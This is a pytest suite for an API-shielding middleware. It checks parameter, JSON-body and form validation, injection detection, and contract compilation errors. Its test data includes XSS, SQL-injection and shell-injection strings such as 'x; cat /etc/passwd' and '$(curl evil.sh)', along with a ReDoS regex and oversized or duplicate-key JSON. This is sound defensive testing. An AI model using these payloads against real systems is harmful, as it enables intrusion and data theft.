"""Request validation against the contract: parameters (400) and JSON bodies (422/400).

Driven through the real pipeline in-process (the middleware over a tiny ASGI app that
counts what reaches it) and, for the gateway, through the CLI in front of the test
upstream. Every refusal is checked for what it must never contain: the submitted value.
"""

from __future__ import annotations

import json
from pathlib import Path

import httpx
import pytest

from apishield import ApiShieldMiddleware
from apishield.config import ConfigError, config_from_dict, load_config
from apishield.contract.loader import load_contract
from apishield.exchange import Exchange
from apishield.problems import InjectionSuspected, InvalidBody
from apishield.steps import validate

DATA = Path(__file__).parent / "data" / "validation"
TRACE = {"X-Trace": "deadbeef"}


class App:
    """The protected app: records every request that got through."""

    def __init__(self) -> None:
        self.seen: list[tuple[str, bytes]] = []

    async def __call__(self, scope, receive, send):
        body = b""
        while True:
            message = await receive()
            body += message.get("body", b"")
            if not message.get("more_body"):
                break
        self.seen.append((scope["path"], body))
        await send({"type": "http.response.start", "status": 200,
                    "headers": [(b"content-type", b"application/json")]})
        await send({"type": "http.response.body", "body": b"{}"})


@pytest.fixture
def app():
    return App()


@pytest.fixture
async def client(app):
    wrapped = ApiShieldMiddleware(app, config=str(DATA / "apishield.yaml"))
    transport = httpx.ASGITransport(app=wrapped)
    async with httpx.AsyncClient(transport=transport, base_url="http://t") as c:
        yield c


def errors_of(response) -> list[dict]:
    document = response.json()
    assert response.headers["content-type"] == "application/problem+json"
    return document["errors"]


# -- parameters --------------------------------------------------------------------------


async def test_valid_parameters_pass(client, app):
    response = await client.get(
        "/items/7?limit=5&flag=true&tags=a&tags=b&ids=1,2,3&filter[min]=2&filter[name]=x",
        headers={**TRACE, "Cookie": "session=abc"},
    )
    assert response.status_code == 200, response.text
    assert app.seen == [("/items/7", b"")]


@pytest.mark.parametrize(("url", "pointer", "reason"), [
    ("/items/abc", "/path/itemId", "type"),            # PEERS: /items/abc reached the app
    ("/items/0", "/path/itemId", "minimum"),
    ("/items/99999999999", "/path/itemId", "maximum"),  # int32
    ("/items/1?limit=12999", "/query/limit", "maximum"),
    ("/items/1?limit=1.5", "/query/limit", "type"),
    ("/items/1?limit=+5", "/query/limit", "type"),       # int() would accept it
    ("/items/1?limit=1_0", "/query/limit", "type"),      # and this
    ("/items/1?flag=yes", "/query/flag", "type"),        # pydantic's lax mode says True
    ("/items/1?tags=z", "/query/tags/0", "enum"),
    ("/items/1?ids=1,x", "/query/ids", "type"),
    ("/items/1?filter[min]=low", "/query/filter", "type"),
    ("/items/1?limit=1&limit=2", "/query/limit", "repeated"),
])
async def test_invalid_parameters_are_400_with_pointer(client, app, url, pointer, reason):
    response = await client.get(url, headers=TRACE)
    assert response.status_code == 400
    errors = errors_of(response)
    assert {"pointer": pointer, "reason": reason} in errors, errors
    assert app.seen == []


async def test_required_header_and_header_pattern(client, app):
    missing = await client.get("/items/1")
    assert {"pointer": "/header/x-trace", "reason": "missing"} in errors_of(missing)
    bad = await client.get("/items/1", headers={"X-Trace": "<script>"})
    errors = errors_of(bad)
    assert errors == [{"pointer": "/header/x-trace", "reason": "pattern"}]
    assert "<script>" not in bad.text  # never echoed
    assert app.seen == []


async def test_cookie_parameter(client, app):
    response = await client.get("/items/1", headers={**TRACE, "Cookie": "session=much-too-long"})
    assert errors_of(response) == [{"pointer": "/cookie/session", "reason": "max-length"}]


async def test_unknown_query_parameter_is_refused_in_strict_mode(client, app):
    response = await client.get("/items/1?debug=1", headers=TRACE)
    assert response.status_code == 400
    assert errors_of(response) == [{"pointer": "/query", "reason": "unknown-parameter"}]
    assert "debug" not in response.text


async def test_strict_off_per_operation(client, app):
    response = await client.post("/loose?q=1&extra=2", json={"a": 1, "other": True})
    assert response.status_code == 200
    assert app.seen and app.seen[0][0] == "/loose"


async def test_errors_are_capped(tmp_path, app):
    (tmp_path / "c.yaml").write_text((DATA / "contract30.yaml").read_text())
    config = config_from_dict({"contract": "c.yaml", "access_log": {"enabled": False},
                               "validation": {"max_errors": 2}}, source_dir=tmp_path)
    wrapped = ApiShieldMiddleware(app, config=config)
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=wrapped),
                                 base_url="http://t") as c:
        response = await c.get("/items/abc?limit=x&flag=maybe&tags=z")
    assert len(errors_of(response)) == 2


# -- JSON bodies ----------------------------------------------------------------------------


async def test_valid_body_passes(client, app):
    body = {"name": "pen", "price": 1.5, "note": None, "count": 3, "active": False,
            "labels": ["x"]}
    response = await client.post("/items", json=body)
    assert response.status_code == 200, response.text
    assert json.loads(app.seen[0][1]) == body


@pytest.mark.parametrize(("body", "pointer", "reason"), [
    ({"name": "pen", "price": 0}, "/body/price", "exclusive-minimum"),   # 3.0 boolean form
    ({"name": "pen", "count": "12999"}, "/body/count", "type"),          # no lax coercion
    ({"name": "pen", "active": "yes"}, "/body/active", "type"),
    ({"name": "pen", "count": 2**40}, "/body/count", "maximum"),         # int32
    ({"name": "pen", "role": "admin"}, "/body/role", "additional-property"),  # mass assignment
    ({"name": "pen", "id": 5}, "/body/id", "false-schema"),              # readOnly
    ({"price": 2}, "/body", "required"),
    ({"name": "x" * 33}, "/body/name", "max-length"),
    ({"name": "pen", "labels": ["a"] * 6}, "/body/labels", "max-items"),   # default cap 5
    ({"name": "pen", "note": "y" * 65}, "/body/note", "max-length"),        # default cap 64
])
async def test_body_breaking_schema_is_422(client, app, body, pointer, reason):
    response = await client.post("/items", json=body)
    assert response.status_code == 422, response.text
    errors = errors_of(response)
    assert {"pointer": pointer, "reason": reason} in errors, errors
    assert app.seen == []
    for value in body.values():
        if isinstance(value, str) and len(value) > 3:
            assert value not in response.text


@pytest.mark.parametrize("raw", [
    b'{"name": "pen", "name": "admin"}',         # duplicate key: parsers disagree
    b'{"name": "pen"',                            # malformed
    b'{"name": "p\xff"}',                         # invalid UTF-8
    b'{"name": "pen", "price": NaN}',             # not JSON
    b'{"a":' * 7 + b'1' + b'}' * 7,               # deeper than 6
    b"[" * 5000 + b"]" * 5000,                    # deeper than Python's stack
    json.dumps({f"k{i}": i for i in range(60)}).encode(),  # more than 50 keys
])
async def test_malformed_or_hostile_json_is_400(client, app, raw):
    response = await client.post("/items", content=raw,
                                 headers={"content-type": "application/json"})
    assert response.status_code == 400, response.text
    assert response.json()["type"].endswith("bad-request")
    assert app.seen == []


@pytest.mark.parametrize("raw", [
    b'{"name": "pen", "labels": ["a"], "labels" : ["b"]}',
    b'{"name": "a\\":\\"", "name": "b"}',              # escaped quotes and colons in a value
    b'[{"value": 1, "value": 2}]',
])
async def test_duplicate_keys_found_anywhere(client, app, raw):
    response = await client.post("/trees" if raw.startswith(b"[") else "/items", content=raw,
                                 headers={"content-type": "application/json"})
    assert response.status_code == 400, response.text


@pytest.mark.parametrize("document", [
    {"name": 'colon: "quoted" \\ back\\slash', "labels": ["k:v", "\u2603:"]},
    {"name": "x", "note": None, "labels": []},
])
async def test_tricky_but_unique_keys_pass(client, app, document):
    response = await client.post("/items", content=json.dumps(document).encode(),
                                 headers={"content-type": "application/json"})
    assert response.status_code == 200, response.text


async def test_charset_other_than_utf8_is_refused(client, app):
    response = await client.post("/items", content=b'{"name": "pen"}',
                                 headers={"content-type": "application/json; charset=latin-1"})
    assert response.status_code == 400


async def test_recursive_schema(client, app):
    tree = {"value": 1, "children": [{"value": 2, "children": [{"value": 3}]}]}
    assert (await client.post("/trees", json=tree)).status_code == 200
    bad = {"value": 1, "children": [{"value": 2, "children": [{"value": "x"}]}]}
    response = await client.post("/trees", json=bad)
    assert response.status_code == 422
    assert errors_of(response) == [{"pointer": "/body/children/0/children/0/value",
                                    "reason": "type"}]
    sneaky = {"value": 1, "children": [{"value": 2, "admin": True}]}
    assert (await client.post("/trees", json=sneaky)).status_code == 422


# -- form bodies -----------------------------------------------------------------------------


def _form(client, body: bytes):
    return client.post("/forms", content=body,
                       headers={"content-type": "application/x-www-form-urlencoded"})


async def test_valid_form_passes_untouched(client, app):
    body = b"name=Ann+Lee&age=30&agree=true&tags=a&tags=b"
    response = await _form(client, body)
    assert response.status_code == 200, response.text
    assert app.seen == [("/forms", body)]  # the app gets the bytes the client sent


@pytest.mark.parametrize(("body", "pointer", "reason"), [
    (b"name=x&age=abc", "/body/age", "type"),
    (b"name=x&age=-1", "/body/age", "minimum"),
    (b"name=x&agree=yes", "/body/agree", "type"),
    (b"name=x&name=y", "/body/name", "repeated"),
    (b"age=3", "/body", "required"),
    (b"name=x&role=admin", "/body/role", "additional-property"),
    (b"name=x&tags=toolongvalue", "/body/tags/0", "max-length"),
])
async def test_invalid_form_is_422(client, app, body, pointer, reason):
    response = await _form(client, body)
    assert response.status_code == 422, response.text
    assert {"pointer": pointer, "reason": reason} in response.json()["errors"]
    assert app.seen == []


async def test_form_payload_and_bad_encoding(client, app):
    payload = await _form(client, b"name=%3Csvg%20onload%3Dx%3E")
    assert payload.status_code == 400
    assert payload.json()["errors"] == [{"pointer": "/body/name", "reason": "xss"}]
    bad = await _form(client, b"name=%ff%fe")
    assert bad.status_code == 400 and bad.json()["type"].endswith("bad-request")
    assert app.seen == []


# -- injection payloads (B6) ---------------------------------------------------------------


@pytest.mark.parametrize(("body", "pointer", "reason"), [
    ({"name": "<script>alert(1)</script>"}, "/body/name", "xss"),
    ({"name": "1 union select password"}, "/body/name", "sql-injection"),
    ({"name": "x; cat /etc/passwd"}, "/body/name", "shell-injection"),
    ({"name": "pen", "labels": ["ok", "$(curl evil.sh)"]}, "/body/labels/1", "shell-injection"),
])
async def test_payloads_in_free_text_are_refused(client, app, body, pointer, reason):
    response = await client.post("/items", json=body)
    assert response.status_code == 400, response.text
    document = response.json()
    assert document["type"].endswith("injection-suspected") and document["practice"] == "B6"
    assert document["errors"] == [{"pointer": pointer, "reason": reason}]
    assert "script" not in response.text and "passwd" not in response.text
    assert app.seen == []


async def test_payload_in_query_parameter(client, app):
    response = await client.post("/loose?q=1'%20OR%20'1'%3D'1", json={"a": 1})
    assert response.status_code == 400
    assert response.json()["errors"] == [{"pointer": "/query/q", "reason": "sql-injection"}]


@pytest.mark.parametrize("text", ["O'Brien", "Tom & Jerry; see you", "SELECT the best one",
                                  "a<b and c>d", "price: 10-20%"])
async def test_ordinary_text_passes(client, app, text):
    response = await client.post("/items", json={"name": text[:32]})
    assert response.status_code == 200, response.text


async def test_constrained_fields_are_not_scanned(client, app):
    # X-Trace has a pattern: a payload fails the pattern (400 invalid-parameters), and is
    # never reported as an injection
    response = await client.get("/items/1", headers={"X-Trace": "' or 1=1"})
    assert response.json()["type"].endswith("invalid-parameters")


async def test_detection_off_per_operation(client, app):
    tree = {"value": 1, "children": [{"value": 2}], "note": "<script>x</script>"}
    # /trees has `injection: false` (and strict mode refuses the undeclared `note`)
    response = await client.post("/trees", json=tree)
    assert response.json()["type"].endswith("invalid-body")
    del tree["note"]
    assert (await client.post("/trees", json=tree)).status_code == 200


def test_secrets_and_write_only_values_are_never_scanned(tmp_path):
    """A password may hold `'` and `--`: it is hashed, never run (issue 16). Declared
    properties named like a secret and writeOnly ones are not scanned; free text is."""
    config = load_config(_contract(tmp_path, {
        "type": "object", "properties": {
            "new_password": {"type": "string"}, "apiKey": {"type": "string"},
            "recovery": {"type": "string", "writeOnly": True},
            "comment": {"type": "string"}, "spinner": {"type": "string"}}}))
    contract = load_contract(config)
    _, body = validate.build(contract, config.validation)
    payload = "p4ss' OR '1'='1' --"

    def check(document: dict) -> list[dict[str, str]]:
        return _body_errors(body, contract, document, InjectionSuspected)

    assert check({"new_password": payload, "apiKey": payload, "recovery": payload}) == []
    assert check({"comment": payload}) == [{"pointer": "/body/comment",
                                            "reason": "sql-injection"}]
    # a word inside a longer one is not a secret's name
    assert check({"spinner": payload}) == [{"pointer": "/body/spinner",
                                            "reason": "sql-injection"}]


# -- compile-time refusals ------------------------------------------------------------------


def _body_errors(body, contract, document: dict, refusal: type) -> list[dict[str, str]]:
    """The errors of `refusal` the body step raises for a JSON `document` sent to the
    contract's one operation, or [] when it passes."""
    exchange = Exchange("POST", b"/x", b"", [(b"content-type", b"application/json")],
                        "127.0.0.1")
    exchange.operation = contract.operations[0]
    exchange.body = json.dumps(document).encode()
    try:
        body.on_body(exchange)
    except refusal as refused:
        return refused.errors
    return []


def _contract(tmp_path, schema: dict, components: dict | None = None) -> Path:
    document = {
        "openapi": "3.1.0", "info": {"title": "t", "version": "1"}, "security": [],
        **({"components": components} if components else {}),
        "paths": {"/x": {"post": {
            "operationId": "x",
            "requestBody": {"content": {"application/json": {"schema": schema}}},
            "responses": {"200": {"description": "ok"}},
        }}},
    }
    (tmp_path / "c.json").write_text(json.dumps(document))
    (tmp_path / "a.yaml").write_text("contract: c.json\n")
    return tmp_path / "a.yaml"


def test_lookaround_and_backreferences_run_on_the_bounded_engine(tmp_path):
    """ECMA-262 lookaround and backreferences are valid in a contract (issue 16): they
    compile with the backtracking engine, bounded, instead of refusing the document."""
    config = load_config(_contract(tmp_path, {"type": "object", "properties": {
        "name": {"type": "string", "pattern": "^(?!admin$)[a-z]+$"},
        "twice": {"type": "string", "pattern": "^(\\w+) \\1$"}}}))
    contract = load_contract(config)
    _, body = validate.build(contract, config.validation)

    def errors(document: dict) -> list[dict[str, str]]:
        return _body_errors(body, contract, document, InvalidBody)

    assert errors({"name": "bob", "twice": "go go"}) == []
    assert errors({"name": "admin"}) == [{"pointer": "/body/name", "reason": "pattern"}]
    assert errors({"twice": "go on"}) == [{"pointer": "/body/twice", "reason": "pattern"}]


def test_a_pattern_that_cannot_compile_is_reported_once_at_its_pointer(tmp_path):
    document = {
        "openapi": "3.1.0", "info": {"title": "t", "version": "1"}, "security": [],
        "components": {"schemas": {"Code": {"type": "string", "pattern": "a{1000}{1000}"}}},
        "paths": {f"/{name}": {"post": {
            "operationId": name,
            "requestBody": {"content": {"application/json": {"schema": {
                "type": "object", "properties": {"code": {"$ref": "#/components/schemas/Code"}}}}}},
            "responses": {"200": {"description": "ok"}},
        }} for name in ("a", "b", "c")},
    }
    (tmp_path / "c.json").write_text(json.dumps(document))
    (tmp_path / "a.yaml").write_text("contract: c.json\n")
    config = load_config(tmp_path / "a.yaml")
    with pytest.raises(ConfigError) as info:
        validate.build(load_contract(config), config.validation)
    assert info.value.problems == [
        "c.json#/components/schemas/Code/pattern: pattern 'a{1000}{1000}' cannot be "
        "compiled: it is not a valid ECMA-262 regular expression, or it compiles to more "
        "than 10 MiB; fix or simplify it"]


def test_a_rewritten_pattern_that_cannot_compile_is_located_at_its_pointer(tmp_path):
    """Java's `\\p{Alnum}` is rewritten before compiling (contract/pattern_dialects.py); when
    the result still cannot compile, the error is at the pattern, not at the whole body."""
    config = load_config(_contract(tmp_path, {"type": "object", "properties": {
        "code": {"type": "string", "pattern": "\\p{Alnum}{1000}{1000}"}}}))
    with pytest.raises(ConfigError) as info:
        validate.build(load_contract(config), config.validation)
    [problem] = info.value.problems
    assert problem.startswith("c.json#/paths/~1x/post/requestBody/content/application~1json/"
                              "schema/properties/code/pattern: pattern "), problem


def test_a_malformed_type_is_a_located_error_not_a_crash(tmp_path):
    """`"type": {...}` (a property named `type` written in the schema's place, as a real
    contract has it) made `check` crash with a TypeError."""
    config = load_config(_contract(tmp_path, {"type": "object", "properties": {
        "item": {"type": {"type": "string", "enum": ["a", "b"]}}}}))
    with pytest.raises(ConfigError) as info:
        validate.build(load_contract(config), config.validation)
    [problem] = info.value.problems
    assert problem.startswith("c.json#/paths/~1x/post/requestBody/content/application~1json/"
                              "schema: invalid schema: ")


def test_redos_pattern_runs_in_linear_time(tmp_path):
    # (a+)+$ backtracks exponentially in Python's re; the linear engine is not bothered.
    config = load_config(_contract(tmp_path, {
        "type": "object", "properties": {"s": {"type": "string", "pattern": "^(a+)+$",
                                                "maxLength": 100000}}}))
    contract = load_contract(config)
    _, body = validate.build(contract, config.validation)
    # bounded by the suite's timeout, not timed
    assert _body_errors(body, contract, {"s": "a" * 50000 + "!"}, InvalidBody) == [
        {"pointer": "/body/s", "reason": "pattern"}]


# -- through the gateway --------------------------------------------------------------------


def test_gateway_validates_before_forwarding(gateway, upstream):
    before = upstream.request_count
    response = httpx.get(f"{gateway.url}/slow?ms=abc")
    assert response.status_code == 400
    assert response.json()["errors"] == [{"pointer": "/query/ms", "reason": "type"}]
    missing = httpx.get(f"{gateway.url}/big")
    assert missing.json()["errors"] == [{"pointer": "/query/bytes", "reason": "missing"}]
    unknown = httpx.get(f"{gateway.url}/big?bytes=1&evil=1")
    assert unknown.status_code == 400
    assert upstream.request_count == before
    assert httpx.get(f"{gateway.url}/slow?ms=1").status_code == 200
    body = httpx.post(f"{gateway.url}/echo", content=b'{"a": 1, "a": 2}',
                      headers={"content-type": "application/json"})
    assert body.status_code == 400
    assert upstream.request_count == before + 1


def test_undeclared_properties_are_named_but_long_names_are_not(tmp_path):
    """A 422 names each undeclared property (`/body/admin`), never its value; a name too
    long to be a field (an attacker's payload in a key) is not repeated."""
    import jsonschema_rs

    from apishield.contract.schema import MAX_NAMED, error_entries

    validator = jsonschema_rs.validator_for({
        "type": "object", "properties": {"a": {"type": "object", "properties": {}}},
        "unevaluatedProperties": False})
    for document, entries in (
        ({"admin": "secret-value", "x/y": 1},
         [{"pointer": "/body/admin", "reason": "additional-property"},
          {"pointer": "/body/x~1y", "reason": "additional-property"}]),
        ({"k" * (MAX_NAMED + 1): 1},
         [{"pointer": "/body", "reason": "unevaluated-properties"}]),
    ):
        found = [entry for error in validator.iter_errors(document)
                 for entry in error_entries("/body", error)]
        assert found == entries
        assert "secret-value" not in str(found)


def test_schemas_whose_names_sanitize_alike_keep_their_own_constraints(tmp_path):
    """Referenced schemas become `$defs` under a sanitized name: `Pet:Name` and `Pet_Name`
    both read `Pet_Name`, and the second must not be validated as the first."""
    path = _contract(tmp_path, {"type": "object", "properties": {
        "a": {"$ref": "#/components/schemas/Pet:Name"},
        "b": {"$ref": "#/components/schemas/Pet_Name"}}}, components={"schemas": {
            "Pet:Name": {"type": "string", "maxLength": 3}, "Pet_Name": {"type": "integer"}}})
    config = load_config(path)
    contract = load_contract(config)
    _, body = validate.build(contract, config.validation)

    def errors(sent: dict) -> list[dict[str, str]]:
        return _body_errors(body, contract, sent, InvalidBody)

    assert errors({"a": "abc", "b": 5}) == []
    assert errors({"a": 5}) == [{"pointer": "/body/a", "reason": "type"}]
    assert errors({"a": "abcd"}) == [{"pointer": "/body/a", "reason": "max-length"}]
    assert errors({"b": "x"}) == [{"pointer": "/body/b", "reason": "type"}]


def test_a_shared_schema_that_fails_to_convert_fails_every_body_that_uses_it(tmp_path):
    """Referenced schemas are converted once per contract and shared by every body; one
    that fails half-way must not stay behind as a placeholder that accepts anything."""
    document = {
        "openapi": "3.1.0", "info": {"title": "t", "version": "1"}, "security": [],
        "components": {"schemas": {"Broken": {"type": "object", "properties": {"a": 5}}}},
        "paths": {f"/{name}": {"post": {
            "operationId": name,
            "requestBody": {"content": {"application/json": {"schema": {
                "$ref": "#/components/schemas/Broken"}}}},
            "responses": {"200": {"description": "ok"}},
        }} for name in ("first", "second")},
    }
    (tmp_path / "c.json").write_text(json.dumps(document))
    (tmp_path / "a.yaml").write_text("contract: c.json\n")
    config = load_config(tmp_path / "a.yaml")
    with pytest.raises(ConfigError) as info:
        validate.build(load_contract(config), config.validation)
    assert info.value.problems == [
        f"c.json#/paths/~1{name}/post/requestBody/content/application~1json/schema: a schema "
        "must be a mapping or a boolean" for name in ("first", "second")]
